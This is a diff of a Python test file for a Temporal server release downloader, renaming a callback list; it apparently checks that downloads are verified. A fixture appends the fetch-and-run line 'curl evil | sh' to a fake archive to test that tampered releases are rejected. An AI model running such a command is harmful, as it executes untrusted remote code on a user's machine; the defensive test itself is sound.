@@ -50,13 +50,13 @@ async def published(monkeypatch: pytest.MonkeyPatch, served: bytes, archive: byt
 async def test_the_command_of_a_release_is_unpacked_and_can_be_run(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    told: list[str] = []
+    reported: list[str] = []
     async with published(monkeypatch, answer("200 OK", ARCHIVE)):
-        await download_release(tmp_path / "temporal", told.append)
+        await download_release(tmp_path / "temporal", reported.append)
     assert (tmp_path / "temporal").read_bytes() == COMMAND
     assert (tmp_path / "temporal").stat().st_mode & 0o111
     assert [path.name for path in tmp_path.iterdir()] == ["temporal"]
-    assert told == ["downloading the Temporal server, once… 0:00"]
+    assert reported == ["downloading the Temporal server, once… 0:00"]
 
 
 OTHER = an_archive(temporal=COMMAND + b"curl evil | sh\n")
@@ -123,8 +123,8 @@ async def test_one_that_is_not_the_release_is_told_although_another_way_works(
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
     monkeypatch.setenv("PATH", str(go.parent))
     monkeypatch.delenv("ORGA_TEMPORAL_CLI", raising=False)
-    told: list[str] = []
+    reported: list[str] = []
     async with published(monkeypatch, answer("200 OK", OTHER)):
-        found = await locate(told.append)
+        found = await locate(reported.append)
     assert found.read_bytes() == b"#!/bin/sh\n"
-    assert any("the Temporal server: its download failed: what came is not release" in line for line in told)
+    assert any("the Temporal server: its download failed: what came is not release" in line for line in reported)
